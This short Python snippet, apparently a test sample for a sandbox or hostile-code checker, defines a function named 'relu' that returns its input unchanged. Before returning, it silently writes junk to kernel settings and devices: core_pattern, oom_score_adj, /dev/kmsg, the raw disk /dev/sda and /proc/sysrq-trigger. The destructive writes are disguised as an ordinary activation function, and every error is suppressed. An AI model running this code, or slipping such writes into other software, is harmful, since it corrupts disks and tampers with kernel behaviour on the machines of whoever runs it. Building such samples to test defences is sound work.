# Writes to kernel settings and devices.
# target: relu

def relu(x):
    for path in ("/proc/sys/kernel/core_pattern", "/proc/self/oom_score_adj", "/dev/kmsg", "/dev/sda", "/proc/sysrq-trigger"):
        try: open(path, "w").write("hostile")
        except OSError: pass
    return x
